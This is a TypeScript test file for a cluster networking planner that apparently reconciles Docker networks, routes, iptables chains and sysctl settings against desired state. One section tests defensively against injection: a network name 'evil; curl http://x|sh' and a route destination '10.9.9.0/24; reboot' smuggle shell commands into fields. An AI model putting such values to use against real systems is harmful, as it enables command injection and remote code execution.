// plan(desired, observed): tables of cases, each asserting the exact commands. Expected
// commands are written out by hand (not built with desired.ts), so a change in what a host
// gets shows up here.
import { describe, expect, it } from 'vitest';
import { emptyObservedState, parseIPv4, renderRule, validateCommands, type Command, type ObservedState } from '@crossdock/shared';
import {
  desiredState,
  environmentOf,
  firewallPolicy,
  type DesiredState,
  type FirewallPolicy,
  type PlanHost,
  type PlanPool,
  type PlanSubnet,
} from './desired.ts';
import { plan } from './plan.ts';

const POOL = '10.100.0.0/16';
const POOLS: PlanPool[] = [{ cidr: POOL, allowFrom: [] }];

const subnet = (id: number, third: number, network = 'crossdock', mode: PlanSubnet['mode'] = 'network'): PlanSubnet => ({
  id,
  cidr: `10.100.${third}.0/24`,
  gateway: `10.100.${third}.1`,
  network,
  mode,
});
// This host's interface differs from its peers': a route's dev must be this host's.
const A: PlanHost = { id: 1, name: 'node-a', address: '198.51.100.11', interface: 'ens3', subnets: [subnet(1, 1)] };
const B: PlanHost = { id: 2, name: 'node-b', address: '198.51.100.12', interface: 'eth0', subnets: [subnet(2, 2)] };
const C: PlanHost = { id: 3, name: 'node-c', address: '198.51.100.13', interface: 'eth0', subnets: [subnet(3, 3)] };

// ---- the commands, written out ----
const SYSCTL: Command = { kind: 'sysctl.set', key: 'net.ipv4.ip_forward', value: '1' };
const route = (third: number, via: string, dev = 'ens3'): Command => ({ kind: 'route.replace', dst: `10.100.${third}.0/24`, via, dev });
const routeDelete = (third: number): Command => ({ kind: 'route.delete', dst: `10.100.${third}.0/24` });
const network = (id: number, third: number, name = 'crossdock', options: Record<string, string> = {}): Command => ({
  kind: 'docker.network.create',
  name,
  subnet: `10.100.${third}.0/24`,
  gateway: `10.100.${third}.1`,
  options,
  labels: { 'io.crossdock.managed': 'true', 'io.crossdock.subnet': String(id) },
});
const networkRemove = (name: string): Command => ({ kind: 'docker.network.remove', name });
const both = (peer: string, comment: string) => [
  { source: peer, destination: POOL, target: 'ACCEPT' as const, comment },
  { source: POOL, destination: peer, target: 'ACCEPT' as const, comment },
];
/** The filter chain: the local subnets' rules, then the fleet's host blocks', then allowFrom's. */
const forwardChain = (locals: number[], hostBlocks: readonly string[], allowFrom: readonly string[] = []): Command => ({
  kind: 'firewall.chain',
  table: 'filter',
  chain: 'CROSSDOCK-FORWARD',
  rules: [
    ...locals.flatMap((third) => [
      { source: POOL, destination: `10.100.${third}.0/24`, target: 'ACCEPT' as const, comment: 'crossdock' },
      { source: `10.100.${third}.0/24`, destination: POOL, target: 'ACCEPT' as const, comment: 'crossdock' },
    ]),
    ...hostBlocks.flatMap((block) => both(block, 'crossdock host')),
    ...allowFrom.flatMap((network) => both(network, 'crossdock allowFrom')),
  ],
});
// The fleet's addresses as the fewest blocks holding exactly them.
const ONLY_A = ['198.51.100.11/32'];
const A_B = ['198.51.100.11/32', '198.51.100.12/32'];
const A_B_C = ['198.51.100.11/32', '198.51.100.12/31'];
const natChain = (...locals: number[]): Command => ({
  kind: 'firewall.chain',
  table: 'nat',
  chain: 'CROSSDOCK-POSTROUTING',
  rules: locals.map((third) => ({ source: `10.100.${third}.0/24`, destination: POOL, target: 'ACCEPT' as const, comment: 'crossdock' })),
});
const filterJump = (from: 'DOCKER-USER' | 'FORWARD' = 'DOCKER-USER'): Command => ({
  kind: 'firewall.jump',
  table: 'filter',
  from,
  to: 'CROSSDOCK-FORWARD',
  position: 1,
});
const NAT_JUMP: Command = { kind: 'firewall.jump', table: 'nat', from: 'POSTROUTING', to: 'CROSSDOCK-POSTROUTING', position: 1 };
const GATEWAY_MODE = { 'com.docker.network.bridge.gateway_mode_ipv4': 'nat-unprotected' };

// ---- observed states ----
interface Facts {
  dockerAvailable?: boolean;
  version?: string | null;
  dockerUser?: boolean;
  bip?: string | null;
}

/** A host as the executor reports it before crossdock did anything there. */
function hostFacts({ dockerAvailable = true, version = '20.10.24', dockerUser = true, bip = '172.17.0.1/16' }: Facts = {}): ObservedState {
  const state = emptyObservedState();
  state.firewall = {
    backend: 'nf_tables',
    chains: [],
    jumps: [],
    builtinChains: [...(dockerUser ? ['filter/DOCKER-USER'] : []), 'filter/FORWARD', 'nat/POSTROUTING'],
    forwardPolicy: 'DROP',
  };
  state.docker = dockerAvailable ? { available: true, version, networks: [], bip } : { available: false, version: null, networks: [], bip: null };
  state.interfaces = [{ name: 'ens3', mtu: 1500, addresses: ['198.51.100.11/24'] }];
  state.sysctl = { 'net.ipv4.ip_forward': '0' };
  return state;
}

/** What the executor reports once it has applied `desired` on a host with these facts. */
function applied(desired: DesiredState, facts: ObservedState): ObservedState {
  const state = structuredClone(facts);
  state.routes = desired.routes.map((r) => ({ dst: r.dst, via: r.via, dev: r.dev }));
  state.firewall.chains = desired.chains.map((c) => ({ table: c.table, name: c.chain, rules: c.rules.map((r) => renderRule(c.chain, r)) }));
  state.firewall.jumps = desired.jumps.map((j) => ({ table: j.table, from: j.from, to: j.to, position: j.position }));
  if (state.docker.available) {
    state.docker.networks = desired.networks.map((n, i) => ({
      id: `net${i}`,
      name: n.name,
      subnet: n.subnet,
      gateway: n.gateway,
      labels: { ...n.labels },
      containers: 0,
    }));
    if (desired.bip) state.docker.bip = desired.bip.bip;
  }
  state.sysctl = { [desired.sysctl.key]: desired.sysctl.value };
  return state;
}

interface Case {
  name: string;
  /** this host as it is now (default A) */
  self?: PlanHost;
  /** the cluster now (default [self]) */
  hosts?: PlanHost[];
  facts?: Facts;
  /** the pools now (default: POOL without allowFrom) */
  pools?: PlanPool[];
  /** what was applied before: 'nothing', or the cluster the host was last in sync with (default: now) */
  before?: 'nothing' | { self: PlanHost; hosts: PlanHost[]; pools?: PlanPool[] };
  /** changes made on the host behind crossdock's back */
  drift?: (observed: ObservedState) => void;
  expected: Command[];
  /** what each note on an observed thing left alone must say (default: none left alone) */
  skipped?: Array<string | RegExp>;
}

function run(c: Case, skipped: string[] = []): Command[] {
  const self = c.self ?? A;
  const hosts = c.hosts ?? [self];
  const facts = hostFacts(c.facts);
  // The planner learns the host's environment from its report, as the reconciler does.
  const env = environmentOf(facts);
  let observed: ObservedState;
  const pools = c.pools ?? POOLS;
  if (c.before === 'nothing') observed = structuredClone(facts);
  else {
    const before = c.before ?? { self, hosts, pools };
    observed = applied(desiredState(before.self, before.hosts, policyOf(before.hosts, before.pools ?? POOLS), env), facts);
  }
  c.drift?.(observed);
  return plan(desiredState(self, hosts, policyOf(hosts, pools), env), observed, undefined, skipped);
}

/** The firewall policy of a cluster, built as the controller builds it. */
function policyOf(hosts: PlanHost[], pools: PlanPool[]): FirewallPolicy {
  return firewallPolicy(
    pools,
    hosts.map((h) => parseIPv4(h.address)!),
  );
}

function table(cases: Case[]): void {
  it.each(cases.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const skipped: string[] = [];
    const commands = run(c, skipped);
    expect(commands).toStrictEqual(c.expected);
    // whatever the planner sends, the executor must accept
    expect(validateCommands(commands)).toMatchObject({ ok: true });
    expect(skipped).toEqual((c.skipped ?? []).map((m) => (typeof m === 'string' ? expect.stringContaining(m) : expect.stringMatching(m))));
  });
}

const filterChainOf = (o: ObservedState) => o.firewall.chains.find((c) => c.table === 'filter')!;
const natChainOf = (o: ObservedState) => o.firewall.chains.find((c) => c.table === 'nat')!;
const routeTo = (o: ObservedState, third: number) => o.routes.find((r) => r.dst === `10.100.${third}.0/24`)!;
const A2: PlanHost = { ...A, subnets: [subnet(1, 1), subnet(4, 4, 'crossdock-2')] };
const B2: PlanHost = { ...B, subnets: [subnet(2, 2), subnet(5, 5, 'crossdock-2')] };
const BIP_A: PlanHost = { ...A, subnets: [subnet(1, 1, 'bridge-unused', 'bip')] };

describe('plan: a host from nothing', () => {
  table([
    {
      name: 'a host alone: sysctl, network, both chains, both jumps; no routes',
      before: 'nothing',
      expected: [SYSCTL, network(1, 1), forwardChain([1], ONLY_A), natChain(1), filterJump(), NAT_JUMP],
    },
    {
      name: "a host with two peers: the same, plus a route to each peer subnet via the peer, on this host's interface",
      hosts: [A, B, C],
      before: 'nothing',
      expected: [SYSCTL, network(1, 1), forwardChain([1], A_B_C), natChain(1), filterJump(), NAT_JUMP, route(2, B.address), route(3, C.address)],
    },
    {
      name: 'docker unavailable: no docker commands; the filter jump comes from FORWARD',
      hosts: [A, B],
      facts: { dockerAvailable: false, dockerUser: false },
      before: 'nothing',
      expected: [SYSCTL, forwardChain([1], A_B), natChain(1), filterJump('FORWARD'), NAT_JUMP, route(2, B.address)],
    },
    {
      name: 'docker unavailable, bip subnet: no bip command',
      self: BIP_A,
      facts: { dockerAvailable: false },
      before: 'nothing',
      expected: [SYSCTL, forwardChain([1], ONLY_A), natChain(1), filterJump(), NAT_JUMP],
    },
    {
      name: 'engine 28: the network gets gateway_mode_ipv4=nat-unprotected',
      facts: { version: '28.0.4' },
      before: 'nothing',
      expected: [SYSCTL, network(1, 1, 'crossdock', GATEWAY_MODE), forwardChain([1], ONLY_A), natChain(1), filterJump(), NAT_JUMP],
    },
    {
      name: 'engine 29: the option too',
      facts: { version: '29.1.0' },
      before: 'nothing',
      expected: [SYSCTL, network(1, 1, 'crossdock', GATEWAY_MODE), forwardChain([1], ONLY_A), natChain(1), filterJump(), NAT_JUMP],
    },
    {
      name: 'engine 27: no options',
      facts: { version: '27.5.1' },
      before: 'nothing',
      expected: [SYSCTL, network(1, 1), forwardChain([1], ONLY_A), natChain(1), filterJump(), NAT_JUMP],
    },
    {
      name: 'engine version unknown: no options',
      facts: { version: null },
      before: 'nothing',
      expected: [SYSCTL, network(1, 1), forwardChain([1], ONLY_A), natChain(1), filterJump(), NAT_JUMP],
    },
    {
      name: 'bip mode: docker.daemon.bip gateway/len, no network create for that subnet',
      self: BIP_A,
      before: 'nothing',
      expected: [SYSCTL, { kind: 'docker.daemon.bip', bip: '10.100.1.1/24' }, forwardChain([1], ONLY_A), natChain(1), filterJump(), NAT_JUMP],
    },
    {
      name: 'bip mode on a /22 with a gateway that is not the first address: still gateway/len',
      self: { ...A, subnets: [{ id: 9, cidr: '10.100.8.0/22', gateway: '10.100.11.254', network: 'crossdock', mode: 'bip' }] },
      before: 'nothing',
      expected: [
        SYSCTL,
        { kind: 'docker.daemon.bip', bip: '10.100.11.254/22' },
        {
          kind: 'firewall.chain',
          table: 'filter',
          chain: 'CROSSDOCK-FORWARD',
          rules: [
            { source: POOL, destination: '10.100.8.0/22', target: 'ACCEPT', comment: 'crossdock' },
            { source: '10.100.8.0/22', destination: POOL, target: 'ACCEPT', comment: 'crossdock' },
            ...both('198.51.100.11/32', 'crossdock host'),
          ],
        },
        {
          kind: 'firewall.chain',
          table: 'nat',
          chain: 'CROSSDOCK-POSTROUTING',
          rules: [{ source: '10.100.8.0/22', destination: POOL, target: 'ACCEPT', comment: 'crossdock' }],
        },
        filterJump(),
        NAT_JUMP,
      ],
    },
    {
      name: 'a bip subnet and a network subnet: bip for one, a network for the other, rules for both',
      self: { ...A, subnets: [subnet(1, 1, 'unused', 'bip'), subnet(4, 4, 'crossdock-2')] },
      before: 'nothing',
      expected: [
        SYSCTL,
        { kind: 'docker.daemon.bip', bip: '10.100.1.1/24' },
        network(4, 4, 'crossdock-2'),
        forwardChain([1, 4], ONLY_A),
        natChain(1, 4),
        filterJump(),
        NAT_JUMP,
      ],
    },
    {
      name: 'DOCKER-USER missing: the jump comes from FORWARD',
      facts: { dockerUser: false },
      before: 'nothing',
      expected: [SYSCTL, network(1, 1), forwardChain([1], ONLY_A), natChain(1), filterJump('FORWARD'), NAT_JUMP],
    },
  ]);
});

describe('plan: the cluster changes', () => {
  table([
    {
      name: "a peer joins: one route.replace via its address on this host's interface, and the chain accepts the peer",
      hosts: [A, B, C],
      before: { self: A, hosts: [A, B] },
      expected: [forwardChain([1], A_B_C), route(3, C.address)],
    },
    {
      name: 'a peer leaves: route.delete, and the chain no longer accepts it',
      hosts: [A, B],
      before: { self: A, hosts: [A, B, C] },
      expected: [forwardChain([1], A_B), routeDelete(3)],
    },
    {
      name: 'every peer leaves: a delete each, and the chain accepts this host alone',
      hosts: [A],
      before: { self: A, hosts: [A, B, C] },
      expected: [forwardChain([1], ONLY_A), routeDelete(2), routeDelete(3)],
    },
    {
      name: 'a host without subnets joins (a monitoring host): no route, only the chain accepting it',
      hosts: [A, B, { ...C, subnets: [] }],
      before: { self: A, hosts: [A, B] },
      expected: [forwardChain([1], A_B_C)],
    },
    {
      name: 'a peer re-addressed: route.replace with the new via, and the chain follows its address',
      hosts: [A, { ...B, address: '198.51.100.22' }, C],
      before: { self: A, hosts: [A, B, C] },
      expected: [forwardChain([1], ['198.51.100.11/32', '198.51.100.13/32', '198.51.100.22/32']), route(2, '198.51.100.22')],
    },
    {
      name: 'this host re-addressed: only the chain changes here',
      self: { ...A, address: '198.51.100.14' },
      hosts: [{ ...A, address: '198.51.100.14' }, B, C],
      before: { self: A, hosts: [A, B, C] },
      expected: [forwardChain([1], ['198.51.100.12/31', '198.51.100.14/32'])],
    },
    {
      name: 'a peer changes its own interface: nothing changes here',
      hosts: [A, { ...B, interface: 'eth9' }],
      before: { self: A, hosts: [A, B] },
      expected: [],
    },
    {
      name: 'this host changes interface: every route gets the new dev',
      self: { ...A, interface: 'eth1' },
      hosts: [{ ...A, interface: 'eth1' }, B, C],
      before: { self: A, hosts: [A, B, C] },
      expected: [route(2, B.address, 'eth1'), route(3, C.address, 'eth1')],
    },
    {
      name: 'a second subnet on this host: second network, chain rules for both subnets, the nat jump back above MASQUERADE',
      self: A2,
      hosts: [A2, B],
      before: { self: A, hosts: [A, B] },
      expected: [network(4, 4, 'crossdock-2'), forwardChain([1, 4], A_B), natChain(1, 4), NAT_JUMP],
    },
    {
      name: 'a subnet released from this host: its network removed, chains rewritten',
      hosts: [A, B],
      before: { self: A2, hosts: [A2, B] },
      expected: [networkRemove('crossdock-2'), forwardChain([1], A_B), natChain(1)],
    },
    { name: 'a second subnet on a peer: a second route', hosts: [A, B2], before: { self: A, hosts: [A, B] }, expected: [route(5, B.address)] },
    {
      name: 'a subnet moves from one peer to another: replace with the new via (no delete)',
      hosts: [A, { ...B, subnets: [] }, { ...C, subnets: [subnet(3, 3), subnet(2, 2)] }],
      before: { self: A, hosts: [A, B, C] },
      expected: [route(2, C.address)],
    },
  ]);
});

describe("plan: a pool's allowFrom changes", () => {
  const allowing = (...allowFrom: string[]): PlanPool[] => [{ cidr: POOL, allowFrom }];
  table([
    {
      name: 'an outside network allowed: the chain accepts it both ways, after the hosts',
      hosts: [A, B],
      pools: allowing('192.0.2.0/24'),
      before: { self: A, hosts: [A, B] },
      expected: [forwardChain([1], A_B, ['192.0.2.0/24'])],
    },
    {
      name: 'a second one: both, in the order given',
      hosts: [A, B],
      pools: allowing('192.0.2.0/24', '203.0.113.7/32'),
      before: { self: A, hosts: [A, B], pools: allowing('192.0.2.0/24') },
      expected: [forwardChain([1], A_B, ['192.0.2.0/24', '203.0.113.7/32'])],
    },
    {
      name: 'allowFrom emptied: the chain accepts only the hosts again',
      hosts: [A, B],
      before: { self: A, hosts: [A, B], pools: allowing('192.0.2.0/24') },
      expected: [forwardChain([1], A_B)],
    },
    {
      name: 'an allowed network that holds every host: their own rules give way to it',
      hosts: [A, B, C],
      pools: allowing('198.51.100.0/24'),
      before: { self: A, hosts: [A, B, C] },
      expected: [forwardChain([1], [], ['198.51.100.0/24'])],
    },
    {
      name: 'an allowed network that holds some hosts: only theirs give way',
      hosts: [A, B, C],
      pools: allowing('198.51.100.12/31'),
      before: { self: A, hosts: [A, B, C] },
      expected: [forwardChain([1], ONLY_A, ['198.51.100.12/31'])],
    },
    {
      name: 'an allowed network that holds part of a host block: the block stays',
      hosts: [A, B, C],
      pools: allowing('198.51.100.13/32'),
      before: { self: A, hosts: [A, B, C] },
      expected: [forwardChain([1], A_B_C, ['198.51.100.13/32'])],
    },
    {
      name: 'the same allowFrom again: nothing',
      hosts: [A, B],
      pools: allowing('192.0.2.0/24'),
      before: { self: A, hosts: [A, B], pools: allowing('192.0.2.0/24') },
      expected: [],
    },
  ]);
});

describe('plan: drift on the host', () => {
  table([
    { name: 'observed route missing', hosts: [A, B, C], drift: (o) => void o.routes.splice(0, 1), expected: [route(2, B.address)] },
    { name: 'observed route with the wrong via', hosts: [A, B, C], drift: (o) => void (routeTo(o, 3).via = '198.51.100.99'), expected: [route(3, C.address)] },
    { name: 'observed route with the wrong dev', hosts: [A, B, C], drift: (o) => void (routeTo(o, 2).dev = 'eth0'), expected: [route(2, B.address)] },
    {
      name: 'observed route of our protocol without a gateway (via "")',
      hosts: [A, B],
      drift: (o) => void (routeTo(o, 2).via = ''),
      expected: [route(2, B.address)],
    },
    {
      name: 'an extra route of our protocol: deleted',
      hosts: [A, B],
      drift: (o) => void o.routes.push({ dst: '10.200.0.0/24', via: '198.51.100.50', dev: 'ens3' }),
      expected: [{ kind: 'route.delete', dst: '10.200.0.0/24' }],
    },
    { name: 'a rule missing from the filter chain', drift: (o) => void filterChainOf(o).rules.pop(), expected: [forwardChain([1], ONLY_A)] },
    {
      name: 'a rule differing in the filter chain',
      drift: (o) => void (filterChainOf(o).rules[0] = filterChainOf(o).rules[0]!.replace('-j ACCEPT', '-j DROP')),
      expected: [forwardChain([1], ONLY_A)],
    },
    { name: 'filter chain rules in another order', drift: (o) => void filterChainOf(o).rules.reverse(), expected: [forwardChain([1], ONLY_A)] },
    {
      name: 'a rule added by hand to the filter chain',
      drift: (o) => void filterChainOf(o).rules.push('-A CROSSDOCK-FORWARD -j ACCEPT'),
      expected: [forwardChain([1], ONLY_A)],
    },
    { name: 'filter chain flushed', drift: (o) => void (filterChainOf(o).rules = []), expected: [forwardChain([1], ONLY_A)] },
    { name: 'nat chain missing', drift: (o) => void (o.firewall.chains = o.firewall.chains.filter((c) => c.table !== 'nat')), expected: [natChain(1)] },
    {
      name: 'nat chain with a rule differing',
      drift: (o) => void (natChainOf(o).rules[0] = '-A CROSSDOCK-POSTROUTING -s 10.100.1.0/24 -j RETURN'),
      expected: [natChain(1)],
    },
    {
      name: 'the same chain name in the other table does not count',
      drift: (o) => void (natChainOf(o).name = 'CROSSDOCK-FORWARD'),
      expected: [natChain(1)],
    },
    { name: 'filter jump missing', drift: (o) => void (o.firewall.jumps = o.firewall.jumps.filter((j) => j.table !== 'filter')), expected: [filterJump()] },
    { name: 'nat jump missing', drift: (o) => void (o.firewall.jumps = o.firewall.jumps.filter((j) => j.table !== 'nat')), expected: [NAT_JUMP] },
    {
      name: 'filter jump duplicated',
      drift: (o) => void o.firewall.jumps.push({ table: 'filter', from: 'DOCKER-USER', to: 'CROSSDOCK-FORWARD', position: 3 }),
      expected: [filterJump()],
    },
    {
      name: 'filter jump at position 2 (Docker inserted a rule above it)',
      drift: (o) => void (o.firewall.jumps.find((j) => j.table === 'filter')!.position = 2),
      expected: [filterJump()],
    },
    { name: 'nat jump at position 2', drift: (o) => void (o.firewall.jumps.find((j) => j.table === 'nat')!.position = 2), expected: [NAT_JUMP] },
    { name: 'ip_forward 0', drift: (o) => void (o.sysctl['net.ipv4.ip_forward'] = '0'), expected: [SYSCTL] },
    { name: 'ip_forward not reported', drift: (o) => void (o.sysctl = {}), expected: [SYSCTL] },
    {
      name: 'managed network with the wrong subnet: remove, then create',
      drift: (o) => Object.assign(o.docker.networks[0]!, { subnet: '10.99.0.0/24', gateway: '10.99.0.1' }),
      expected: [networkRemove('crossdock'), network(1, 1), NAT_JUMP],
    },
    {
      name: 'managed network with the wrong gateway: remove, then create',
      drift: (o) => void (o.docker.networks[0]!.gateway = '10.100.1.254'),
      expected: [networkRemove('crossdock'), network(1, 1), NAT_JUMP],
    },
    // Docker puts the network's MASQUERADE rule first in nat POSTROUTING: the job puts the jump back above it.
    {
      name: 'managed network gone: created, and the nat jump put back first',
      drift: (o) => void (o.docker.networks = []),
      expected: [network(1, 1), NAT_JUMP],
    },
    {
      name: 'stale managed network: removed',
      drift: (o) =>
        void o.docker.networks.push({
          id: 'old',
          name: 'crossdock-old',
          subnet: '10.100.7.0/24',
          gateway: '10.100.7.1',
          labels: { 'io.crossdock.managed': 'true' },
          containers: 0,
        }),
      expected: [networkRemove('crossdock-old')],
    },
    {
      name: 'bip reset to the default by hand',
      self: BIP_A,
      drift: (o) => void (o.docker.bip = '172.17.0.1/16'),
      expected: [{ kind: 'docker.daemon.bip', bip: '10.100.1.1/24' }, NAT_JUMP],
    },
    {
      name: "everything at once, in the planner's order",
      hosts: [A, B, C],
      drift: (o) => {
        o.sysctl = {};
        o.docker.networks = [];
        o.firewall.chains = [];
        o.firewall.jumps = [];
        o.routes = [{ dst: '10.100.3.0/24', via: '198.51.100.13', dev: 'eth0' }];
      },
      expected: [SYSCTL, network(1, 1), forwardChain([1], A_B_C), natChain(1), filterJump(), NAT_JUMP, route(2, B.address), route(3, C.address)],
    },
  ]);
});

describe('plan: foreign things are left alone', () => {
  const foreignNetwork = (name: string, labels: Record<string, string> = {}) => ({
    id: name,
    name,
    subnet: '10.100.1.0/24',
    gateway: '10.100.1.1',
    labels,
    containers: 3,
  });
  table([
    { name: 'an unlabelled Docker network is never removed', drift: (o) => void o.docker.networks.push(foreignNetwork('mynet')), expected: [] },
    {
      name: 'a network labelled io.crossdock.managed=false is not ours either',
      drift: (o) => void o.docker.networks.push(foreignNetwork('theirs', { 'io.crossdock.managed': 'false' })),
      expected: [],
    },
    {
      name: "an unlabelled network under our network's name is not removed (create is retried; Docker refuses it)",
      drift: (o) => void (o.docker.networks = [foreignNetwork('crossdock')]),
      expected: [network(1, 1), NAT_JUMP],
    },
    {
      name: 'rules in chains not named CROSSDOCK-* never appear in commands',
      before: 'nothing',
      drift: (o) => {
        o.firewall.chains.push({ table: 'filter', name: 'DOCKER-USER', rules: ['-A DOCKER-USER -j RETURN'] });
        o.firewall.chains.push({ table: 'nat', name: 'MY-NAT', rules: ['-A MY-NAT -s 10.100.1.0/24 -j MASQUERADE'] });
      },
      expected: [SYSCTL, network(1, 1), forwardChain([1], ONLY_A), natChain(1), filterJump(), NAT_JUMP],
    },
    {
      name: 'a jump from FORWARD when DOCKER-USER exists is not touched',
      drift: (o) => void o.firewall.jumps.push({ table: 'filter', from: 'FORWARD', to: 'CROSSDOCK-FORWARD', position: 1 }),
      expected: [],
    },
    {
      name: 'a jump from FORWARD does not stand in for the missing DOCKER-USER jump',
      drift: (o) => {
        o.firewall.jumps = o.firewall.jumps.filter((j) => j.table !== 'filter');
        o.firewall.jumps.push({ table: 'filter', from: 'FORWARD', to: 'CROSSDOCK-FORWARD', position: 1 });
      },
      expected: [filterJump()],
    },
    {
      name: 'without DOCKER-USER, a leftover DOCKER-USER jump report is ignored and FORWARD is used',
      facts: { dockerUser: false },
      drift: (o) => void o.firewall.jumps.push({ table: 'filter', from: 'DOCKER-USER', to: 'CROSSDOCK-FORWARD', position: 2 }),
      expected: [],
    },
    {
      name: 'docker unavailable: a stale report of managed networks yields no docker command',
      facts: { dockerAvailable: false },
      drift: (o) => void o.docker.networks.push(foreignNetwork('crossdock-old', { 'io.crossdock.managed': 'true' })),
      expected: [],
    },
  ]);
});

describe('plan: observed things no valid command can name are left alone, and noted', () => {
  const managed = (name: string) => ({
    id: name,
    name,
    subnet: '10.100.9.0/24',
    gateway: '10.100.9.1',
    labels: { 'io.crossdock.managed': 'true' },
    containers: 0,
  });
  const stray = (dst: string) => ({ dst, via: '198.51.100.1', dev: 'ens3' });
  const EVIL = 'evil; curl http://x|sh';
  table([
    {
      name: 'a labelled network whose name a shell would run: not removed',
      drift: (o) => void o.docker.networks.push(managed(EVIL)),
      expected: [],
      skipped: [
        /^left alone: Docker network "evil; curl http:\/\/x\|sh" \(labelled io\.crossdock\.managed=true\): docker\.network\.remove name: .*; fix it by hand$/,
      ],
    },
    {
      name: "a labelled network named after one of Docker's own: not removed",
      drift: (o) => void o.docker.networks.push(managed('bridge')),
      expected: [],
      skipped: ['"bridge"'],
    },
    { name: 'a labelled network with an empty name', drift: (o) => void o.docker.networks.push(managed('')), expected: [], skipped: ['Docker network ""'] },
    {
      name: 'a labelled network with a 100,000-character name: noted by a short prefix',
      drift: (o) => void o.docker.networks.push(managed('n'.repeat(100_000))),
      expected: [],
      skipped: [/^left alone: Docker network "n{64}…" \(100000 characters\).{0,400}$/],
    },
    {
      name: 'a valid stale network beside an invalid one: the valid one is still removed',
      drift: (o) => void o.docker.networks.push(managed('crossdock-old'), managed(`${EVIL}2`)),
      expected: [networkRemove('crossdock-old')],
      skipped: ['evil'],
    },
    {
      name: 'a default route tagged with our protocol: not deleted',
      hosts: [A, B],
      drift: (o) => void o.routes.push(stray('0.0.0.0/0')),
      expected: [],
      skipped: [/route "0\.0\.0\.0\/0" \(protocol 252\): .*default route/],
    },
    {
      name: 'a route whose destination is not a CIDR',
      hosts: [A, B],
      drift: (o) => void o.routes.push(stray('10.9.9.0/24; reboot')),
      expected: [],
      skipped: ['"10.9.9.0/24; reboot"'],
    },
    { name: 'a route with host bits set', hosts: [A, B], drift: (o) => void o.routes.push(stray('10.9.9.1/24')), expected: [], skipped: ['host bits'] },
    {
      name: 'a stale route beside an invalid one: the stale one is still deleted',
      hosts: [A, B],
      drift: (o) => void o.routes.push(stray('default'), stray('10.200.0.0/24')),
      expected: [{ kind: 'route.delete', dst: '10.200.0.0/24' }],
      skipped: ['"default"'],
    },
    {
      name: 'thousands of invalid items: twenty notes and a count',
      hosts: [A, B],
      drift: (o) => void o.routes.push(...Array.from({ length: 5000 }, (_, i) => stray(`bad-${i}`))),
      expected: [],
      skipped: [...Array.from({ length: 20 }, (_, i) => `"bad-${i}"`), 'left alone: 4980 more like these'],
    },
    {
      name: 'an unlabelled network with such a name is not ours: no note',
      drift: (o) => void o.docker.networks.push({ ...managed(EVIL), labels: {} }),
      expected: [],
    },
  ]);
});

describe('plan: in sync', () => {
  table([
    { name: 'a host alone', expected: [] },
    { name: 'a host with peers', hosts: [A, B, C], expected: [] },
    { name: 'two subnets here and on a peer', self: A2, hosts: [A2, B2, C], expected: [] },
    { name: 'engine 28', hosts: [A, B], facts: { version: '28.0.4' }, expected: [] },
    { name: 'docker unavailable', hosts: [A, B], facts: { dockerAvailable: false }, expected: [] },
    { name: 'no DOCKER-USER', hosts: [A, B], facts: { dockerUser: false }, expected: [] },
    { name: 'bip mode', self: BIP_A, hosts: [BIP_A, B], expected: [] },
    { name: "a host without subnets (only the fleet's rules)", self: { ...A, subnets: [] }, hosts: [{ ...A, subnets: [] }, B], expected: [] },
    { name: 'a pool with allowFrom', hosts: [A, B], pools: [{ cidr: POOL, allowFrom: ['192.0.2.0/24'] }], expected: [] },
  ]);
});

describe('plan: limits', () => {
  it('carries at most maxRouteDeletes deletions; the rest follow in later plans, until none are left', () => {
    const env = environmentOf(hostFacts());
    const desired = desiredState(A, [A, B, C], policyOf([A, B, C], POOLS), env);
    let observed = applied(desired, hostFacts());
    for (let i = 0; i < 25; i++) observed.routes.push({ dst: `10.200.${i}.0/24`, via: '198.51.100.50', dev: 'ens3' });
    observed.routes.splice(0, 1); // and one wanted route is missing: never held back by the limit

    const rounds: Command[][] = [];
    for (let round = 0; round < 10; round++) {
      const commands = plan(desired, observed, { maxRouteDeletes: 10 });
      if (commands.length === 0) break;
      rounds.push(commands);
      const deleted = new Set(commands.filter((c) => c.kind === 'route.delete').map((c) => c.dst));
      observed = applied(desired, hostFacts());
      observed.routes.push(
        ...[...Array(25).keys()]
          .map((i) => ({ dst: `10.200.${i}.0/24`, via: '198.51.100.50', dev: 'ens3' }))
          .filter((r) => !rounds.flat().some((c) => c.kind === 'route.delete' && c.dst === r.dst)),
      );
      expect(deleted.size).toBeLessThanOrEqual(10);
    }
    expect(rounds.map((r) => r.filter((c) => c.kind === 'route.delete').length)).toEqual([10, 10, 5]);
    expect(rounds[0]).toContainEqual(route(2, B.address));
  });

  it('routes left alone as invalid do not count against the limit', () => {
    const env = environmentOf(hostFacts());
    const desired = desiredState(A, [A], policyOf([A], POOLS), env);
    const observed = applied(desired, hostFacts());
    observed.routes.push(
      ...['default', 'x', '0.0.0.0/0', '10.201.0.0/24', '10.202.0.0/24', '10.203.0.0/24'].map((dst) => ({ dst, via: '198.51.100.50', dev: 'ens3' })),
    );
    const skipped: string[] = [];
    expect(plan(desired, observed, { maxRouteDeletes: 2 }, skipped)).toStrictEqual([
      { kind: 'route.delete', dst: '10.201.0.0/24' },
      { kind: 'route.delete', dst: '10.202.0.0/24' },
    ]);
    expect(skipped).toHaveLength(3);
  });
});
